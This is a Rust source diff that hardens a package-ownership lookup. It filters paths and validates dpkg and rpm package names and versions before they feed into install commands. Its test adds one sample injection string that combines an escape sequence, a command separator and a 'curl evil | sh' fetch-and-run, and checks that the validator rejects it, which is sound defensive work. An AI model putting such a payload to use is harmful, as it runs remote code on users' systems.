@@ -33,7 +33,7 @@ pub(crate) struct Distribution {
 }
 
 impl Distribution {
-    /// That of this machine.
+    /// The one of this machine.
     pub(crate) fn here() -> Self {
         Self::parse(&std::fs::read_to_string("/etc/os-release").unwrap_or_default())
     }
@@ -74,13 +74,15 @@ impl Distribution {
 
 /// The owners of files, as far as there are any: by dpkg, else by rpm.
 pub(crate) fn owners(paths: &[String]) -> BTreeMap<String, Package> {
-    let by_dpkg = dpkg_owners(paths);
-    if by_dpkg.is_empty() { rpm_owners(paths) } else { by_dpkg }
+    let is_path = |path: &&String| path.starts_with('/') && !path.contains(char::is_control);
+    let paths: Vec<String> = paths.iter().filter(is_path).cloned().collect();
+    let by_dpkg = dpkg_owners(&paths);
+    if by_dpkg.is_empty() { rpm_owners(&paths) } else { by_dpkg }
 }
 
 fn dpkg_owners(paths: &[String]) -> BTreeMap<String, Package> {
     let mut asked: BTreeMap<String, &String> = BTreeMap::new();
-    for path in paths.iter().filter(|path| path.starts_with('/')) {
+    for path in paths {
         asked.insert(path.clone(), path);
         // On merged systems the package may still say /lib, or the kernel /usr/lib.
         let other = match path.strip_prefix("/usr/") {
@@ -117,7 +119,7 @@ fn dpkg_owners(paths: &[String]) -> BTreeMap<String, Package> {
     let packages: BTreeMap<&str, Package> = shown
         .lines()
         .filter_map(|line| match line.split('\t').collect::<Vec<_>>()[..] {
-            [key, name, version, source] => {
+            [key, name, version, source] if [name, version, source].into_iter().all(is_plain) => {
                 let [name, version, source] = [name, version, source].map(str::to_owned);
                 Some((key, Package { name, version, source }))
             }
@@ -138,14 +140,14 @@ fn rpm_owners(paths: &[String]) -> BTreeMap<String, Package> {
         let format = "%{NAME}\t%{VERSION}-%{RELEASE}\t\n";
         let shown = output("rpm", &["--query", "--queryformat", format, "--file", "--", path]);
         match shown.lines().next()?.split('\t').collect::<Vec<_>>()[..] {
-            [name, version, ""] => {
+            [name, version, ""] if is_plain(name) && is_plain(version) => {
                 let (name, version) = (name.to_owned(), version.to_owned());
                 Some((path.clone(), Package { name, version, source: String::new() }))
             }
             _ => None,
         }
     };
-    paths.iter().filter(|path| path.starts_with('/')).filter_map(owner).collect()
+    paths.iter().filter_map(owner).collect()
 }
 
 impl Package {
@@ -158,7 +160,7 @@ impl Package {
     }
 }
 
-/// What brings the debug information of each package.
+/// Commands that bring the debug information of each package, by its name.
 pub(crate) fn remedies(
     packages: &BTreeSet<&Package>,
     distribution: &Distribution,
@@ -191,6 +193,12 @@ pub(crate) fn remedies(
         Some((name.clone(), Remedy { command, before }))
     };
     packages.iter().filter_map(|package| remedy(package)).collect()
+}
+
+/// Tells whether a text can be the name or version of a package: what rpm says of a path that nobody owns has the path in
+/// it, which may be anything.
+fn is_plain(text: &str) -> bool {
+    !text.is_empty() && text.chars().all(|c| c.is_ascii_alphanumeric() || "._+-:~^".contains(c))
 }
 
 fn texts(strings: &[String]) -> Vec<&str> {
@@ -230,6 +238,8 @@ mod tests {
         let owners = owners(&paths.map(str::to_owned));
         assert_eq!(owners.keys().collect::<Vec<_>>(), ["/usr/bin/dpkg-query"]);
         assert_eq!(owners["/usr/bin/dpkg-query"].name, "dpkg");
+        let said_of_a_path = "file /tmp/x\u{1b}[31m; curl evil | sh #";
+        assert!(!is_plain(said_of_a_path) && is_plain("libc6") && is_plain("5:7.0.15-1~deb12u1"));
         let merged = ["/lib/x86_64-linux-gnu/libc.so.6", "/usr/lib/x86_64-linux-gnu/libc.so.6"];
         for path in merged.into_iter().filter(|path| std::path::Path::new(path).exists()) {
             assert_eq!(super::owners(&[path.to_owned()])[path].name, "libc6");
